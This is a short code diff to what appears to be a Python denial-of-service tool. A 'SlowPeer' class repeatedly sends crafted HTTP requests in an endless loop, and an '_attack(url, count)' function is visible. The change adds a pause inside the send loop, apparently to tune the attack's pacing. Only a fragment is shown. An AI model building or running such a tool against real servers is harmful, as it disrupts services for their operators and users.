@@ -62,6 +62,7 @@ class SlowPeer:
         request = self._request + f"Content-Length: {len(_BATCH)}\r\n\r\n".encode() + _BATCH
         while True:
             await loop.sock_sendall(peer, request)
+            await asyncio.sleep(PAUSE / 2)
 
 
 async def _attack(url: str, count: int) -> None:
